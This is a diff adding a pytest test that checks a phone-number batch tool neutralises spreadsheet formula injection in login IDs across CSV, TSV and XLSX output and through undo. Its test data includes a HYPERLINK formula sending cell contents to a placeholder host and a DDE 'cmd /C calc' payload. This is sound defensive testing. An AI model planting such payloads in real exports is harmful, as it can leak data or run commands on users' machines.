@@ -223,3 +223,31 @@ def test_undo_command_dry_run_then_for_real(
     assert code == 2 and err == (
         "batchphone: error: in.csv: not a batchphone result file (no column 'status')\n"
     )
+
+
+EVIL_IDS = ['+HYPERLINK("http://x?"&A1,"y")', "-2+3+cmd|' /C calc'!A0", "'=quoted already"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv", "xlsx"])
+async def test_spreadsheet_safe_login_ids_round_trip_through_undo(tmp_path: Path, fmt: str) -> None:
+    users = [
+        {"loginId": login, "phone": f"+1415555000{i}", "verifiedPhone": True}
+        for i, login in enumerate(EVIL_IDS)
+    ]
+    emulator = make_emulator(users)
+    rows = [(login, f"+1415666000{i}") for i, login in enumerate(EVIL_IDS)]
+    source = write_input(tmp_path / "in.csv", rows, ["true"] * len(rows))
+    out = tmp_path / f"run.{fmt}"
+    done = await run_job(emulator, "run", source, out, job=SKIP)
+    assert done.counts == {"updated": 3}
+    if fmt == "xlsx":
+        written = pl.read_excel(out, infer_schema_length=0)["loginId"].to_list()
+    else:
+        separator = "\t" if fmt == "tsv" else ","
+        written = pl.read_csv(out, separator=separator, infer_schema=False)["loginId"].to_list()
+    assert written == ["'" + login for login in EVIL_IDS]  # no cell starts a formula
+    undone = await run_job(emulator, "undo", out, tmp_path / "undo.csv")
+    assert undone.counts == {"updated": 3}
+    assert [emulator.user(PROJECT, login)["phone"] for login in EVIL_IDS] == [
+        f"+1415555000{i}" for i in range(3)
+    ]
